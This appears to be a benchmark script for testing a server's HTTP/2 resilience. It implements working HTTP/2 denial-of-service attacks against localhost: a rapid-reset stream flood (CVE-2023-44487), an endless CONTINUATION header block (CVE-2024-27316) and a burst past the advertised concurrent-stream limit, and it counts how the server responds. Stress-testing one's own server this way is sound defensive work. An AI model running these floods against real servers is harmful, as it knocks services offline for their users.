// HTTP/2 attacks written frame by frame over TLS (ALPN h2), as no well-behaved client would:
//   node bench/attacks/h2.mjs rapid-reset  PORT CONNECTIONS SECONDS
//       each connection opens streams and resets them at once (CVE-2023-44487), as fast as the
//       socket takes them, reconnecting whenever the server closes it
//   node bench/attacks/h2.mjs continuation PORT CONNECTIONS SECONDS
//       each connection opens one stream whose header block never ends: CONTINUATION frames
//       without END_HEADERS, for as long as the server keeps reading (CVE-2024-27316 and kin)
//   node bench/attacks/h2.mjs burst PORT
//       one connection opens 200 streams at once on a server that advertised fewer; prints
//       the limit advertised, how many of the 200 were answered and refused (REFUSED_STREAM),
//       the other resets' codes, the GOAWAY's code if any, how long after the burst the server closed the connection,
//       and whether it lives on (one more stream 2 s later: answered, refused or reset)
// Prints one JSON line of counts at the end.
import tls from 'node:tls'
import { PREFACE, frame } from './frames.mjs'

const [mode, port, connections = '1', seconds = '0'] = process.argv.slice(2)
const HEADERS = 1
const RST_STREAM = 3
const SETTINGS = 4
const GOAWAY = 7
const CONTINUATION = 9
const MAX_CONCURRENT_STREAMS = 3 // a SETTINGS parameter
const REFUSED_STREAM = 7 // an error code

const AUTHORITY = Buffer.from('localhost')
/** :method GET, :scheme https, :path /, :authority localhost (HPACK, no dynamic table). */
const BLOCK = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, AUTHORITY.length]), AUTHORITY])
/** A parameter's value in a SETTINGS payload (6-byte entries), null when not sent (no limit). */
function setting(payload, id) {
  for (let at = 0; at + 6 <= payload.length; at += 6) if (payload.readUInt16BE(at) === id) return payload.readUInt32BE(at + 2)
  return null
}
const rst = (stream) => frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8])) // CANCEL

/** A TLS h2 connection: `onFrame(type, flags, stream, payload)`; SETTINGS acknowledged. */
function connect(onFrame) {
  const socket = tls.connect({ port: Number(port), host: '127.0.0.1', ALPNProtocols: ['h2'], rejectUnauthorized: false, servername: 'localhost' })
  let buffered = Buffer.alloc(0)
  socket.on('data', (chunk) => {
    buffered = Buffer.concat([buffered, chunk])
    while (buffered.length >= 9) {
      const length = buffered.readUIntBE(0, 3)
      if (buffered.length < 9 + length) break
      const [type, flags, stream] = [buffered[3], buffered[4], buffered.readUInt32BE(5) & 0x7fffffff]
      const payload = buffered.subarray(9, 9 + length)
      buffered = buffered.subarray(9 + length)
      if (type === SETTINGS && !(flags & 1)) socket.write(frame(SETTINGS, 1, 0))
      onFrame?.(type, flags, stream, payload)
    }
  })
  socket.on('error', () => {})
  socket.once('secureConnect', () => socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0)])))
  return socket
}

const counts = { connections: 0, streams: 0, goaway: {}, closedByServer: 0 }
const end = Date.now() + Number(seconds) * 1000

/** Keeps `n` attacking connections open until the end, each driven by `attack(socket)`. */
function flood(n, attack) {
  return Promise.all(
    Array.from({ length: n }, async () => {
      while (Date.now() < end) {
        counts.connections++
        await new Promise((resolve) => {
          const socket = connect((type, _flags, _stream, payload) => {
            if (type === GOAWAY) counts.goaway[payload.readUInt32BE(4)] = (counts.goaway[payload.readUInt32BE(4)] ?? 0) + 1
          })
          const stop = setTimeout(() => socket.destroy(), Math.max(0, end - Date.now()))
          socket.once('close', () => {
            clearTimeout(stop)
            if (Date.now() < end) counts.closedByServer++
            setTimeout(resolve, 10)
          })
          socket.once('secureConnect', () => attack(socket))
        })
      }
    }),
  )
}

if (mode === 'rapid-reset') {
  await flood(Number(connections), (socket) => {
    let stream = 1
    const more = () => {
      if (socket.destroyed || Date.now() >= end) return
      const batch = []
      for (let i = 0; i < 100 && stream < 2 ** 31 - 2; i++, stream += 2) batch.push(frame(HEADERS, 0x4 | 0x1, stream, BLOCK), rst(stream))
      counts.streams += batch.length / 2
      if (socket.write(Buffer.concat(batch))) setImmediate(more)
      else socket.once('drain', more)
    }
    more()
  })
} else if (mode === 'continuation') {
  const junk = Buffer.concat(Array.from({ length: 200 }, (_, i) => Buffer.concat([Buffer.from([0x00, 0x05]), Buffer.from('x-abc'), Buffer.from([0x7f, 0x00]), Buffer.alloc(127, 97 + (i % 26))])))
  await flood(Number(connections), (socket) => {
    socket.write(frame(HEADERS, 0, 1, BLOCK)) // no END_HEADERS: the block goes on...
    const more = () => {
      if (socket.destroyed || Date.now() >= end) return
      counts.streams++
      if (socket.write(frame(CONTINUATION, 0, 1, junk))) setImmediate(more) // ...and never ends
      else socket.once('drain', more)
    }
    more()
  })
} else if (mode === 'burst') {
  const BURST = 200
  const PROBE = 1 + 2 * BURST // the stream after the burst, 2 s later
  const result = await new Promise((resolve) => {
    // Sets: a stream is answered once however many HEADERS frames it gets
    const answered = new Set()
    const refused = new Set()
    const got = { burst: BURST, advertised: null, otherResets: 0, otherResetCodes: {}, goaway: null, closedAfterMs: null, probe: 'none' }
    let sentAt = 0
    const socket = connect((type, flags, stream, payload) => {
      if (type === SETTINGS && !(flags & 1) && !sentAt) {
        got.advertised = setting(payload, MAX_CONCURRENT_STREAMS)
        sentAt = Date.now()
        const frames = []
        for (let i = 0; i < BURST; i++) frames.push(frame(HEADERS, 0x4 | 0x1, 1 + 2 * i, BLOCK))
        socket.write(Buffer.concat(frames))
        setTimeout(() => {
          // does the connection still serve?
          socket.write(frame(HEADERS, 0x4 | 0x1, PROBE, BLOCK))
          setTimeout(() => resolve({ ...got, answered: answered.size, refused: refused.size, alive: !socket.destroyed }), 1000)
        }, 2000)
      }
      const outcome = type === HEADERS ? 'answered' : type === RST_STREAM ? (payload.readUInt32BE(0) === REFUSED_STREAM ? 'refused' : 'reset') : null
      if (outcome && stream === PROBE) got.probe = outcome
      else if (outcome === 'answered' && stream > 0) answered.add(stream)
      else if (outcome === 'refused') refused.add(stream)
      else if (outcome === 'reset') {
        got.otherResets++
        const code = payload.readUInt32BE(0)
        got.otherResetCodes[code] = (got.otherResetCodes[code] ?? 0) + 1
      }
      if (type === GOAWAY) got.goaway = payload.readUInt32BE(4)
    })
    socket.once('close', () => (got.closedAfterMs = sentAt ? Date.now() - sentAt : 0))
  })
  Object.assign(counts, result)
  counts.streams = result.burst + 1
} else {
  console.error(`unknown mode ${mode}: rapid-reset, continuation or burst`)
  process.exit(2)
}
console.log(JSON.stringify(counts))
process.exit(0)
